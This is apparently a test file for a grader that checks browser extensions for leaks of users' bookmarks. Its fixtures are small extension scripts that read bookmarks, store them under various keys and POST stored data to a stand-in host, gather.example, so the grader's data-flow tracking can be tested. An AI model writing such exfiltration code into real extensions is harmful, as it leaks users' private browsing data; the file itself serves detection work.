import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const MANIFEST = { permissions: ['bookmarks', 'storage'], background: { service_worker: 'main.js', type: 'module' } };

/** Bookmarks are kept under one key, and what is kept under another one is sent. */
const kept = (files: Record<string, string>, key: string, asked: string, before = '') => ({
  manifest: MANIFEST,
  files: {
    ...files,
    'main.js': `${before}
    const init = async () => { const found = await chrome.bookmarks.getTree(); chrome.storage.local.set({ [${key}]: found }); };
    const tell = async (name) => { const all = await chrome.storage.local.get(${asked}); fetch('https://gather.example/', { method: 'POST', body: JSON.stringify(all[${asked}]) }); };
    init(); chrome.alarms.onAlarm.addListener(({ name }) => tell(name));`,
  },
});

const FOLDER = "import { FOLDER, change } from './keys.js';";
const keys = (text: string): Record<string, string> => ({ 'keys.js': text });
const MADE = "const keyOf = (name) => 'account_' + name;";
const IS_OTHER = /^A/;

it.each([
  ['that another script names', kept(keys("export const FOLDER = 'folder';"), 'FOLDER', "'account_' + name", FOLDER)],
  ['that a function makes', kept({}, "'folder'", 'keyOf(name)', MADE)],
  ['beside one', kept(keys("export const FOLDER = 'folder';"), 'FOLDER', 'keyOf(name)', FOLDER + MADE)],
])('sends nothing that is kept under another key than the one %s', async (_, extension) => {
  expect(await graded(extension)).toMatch(IS_OTHER);
});

it.each([
  ['another script names', kept(keys("export const FOLDER = 'account_a';"), 'FOLDER', "'account_' + name", FOLDER)],
  [
    'another script names anew',
    kept(
      keys("export let FOLDER = 'folder'; export function change() { FOLDER = 'account_a'; }"),
      'FOLDER',
      "'account_a'",
      `${FOLDER} change();`,
    ),
  ],
  ['another script makes', kept(keys('export const FOLDER = self.name;'), 'FOLDER', 'keyOf(name)', FOLDER + MADE)],
  ['a function makes', kept({}, "'account_a'", 'keyOf(name)', MADE)],
  [
    'a function makes in two ways',
    kept(
      {},
      "'folder'",
      'keyOf(name)',
      "function keyOf(name) { if (name) return 'account_' + name; return 'fold' + 'er'; }",
    ),
  ],
])('sends what is kept under a key that %s', async (_, extension) => {
  expect(await graded(extension)).toBe('D');
});

it.each([
  ['sends nothing kept under another', "const NAME = 'account';", '', /^A/],
  ['sends what is kept under it', "const NAME = 'folder';", '', /^D$/],
  ['sends what is kept under any, where it is changed', "let NAME = 'account';", "NAME = 'fold' + er;", /^D$/],
  ['sends what is kept under any, where two name it', "const NAME = 'account';", "self.NAME = 'folder';", /^D$/],
])('%s key than the one that a script of the page names', async (_, named, more, grade) => {
  const files = {
    'page.html': '<script src="names.js"></script><script src="page.js"></script>',
    'names.js': named,
    'page.js': `${more} setInterval(async () => { const all = await chrome.storage.local.get([NAME]); fetch('https://gather.example/', { method: 'POST', body: JSON.stringify(all[NAME]) }); }, 1000);`,
    'main.js': 'chrome.bookmarks.getTree().then((folder) => chrome.storage.local.set({ folder }));',
  };
  expect(await graded({ manifest: { ...MANIFEST, options_page: 'page.html' }, files })).toMatch(grade);
});

it('sends all where the function that makes the key may give nothing', async () => {
  const background = `function keyOf(name) { if (name) return 'account_' + name; }
    chrome.bookmarks.getTree().then((folder) => chrome.storage.local.set({ folder }));
    chrome.alarms.onAlarm.addListener(async () => fetch('https://gather.example/', { method: 'POST', body: JSON.stringify(await chrome.storage.local.get(keyOf())) }));`;
  expect(await graded({ background })).toBe('D');
});
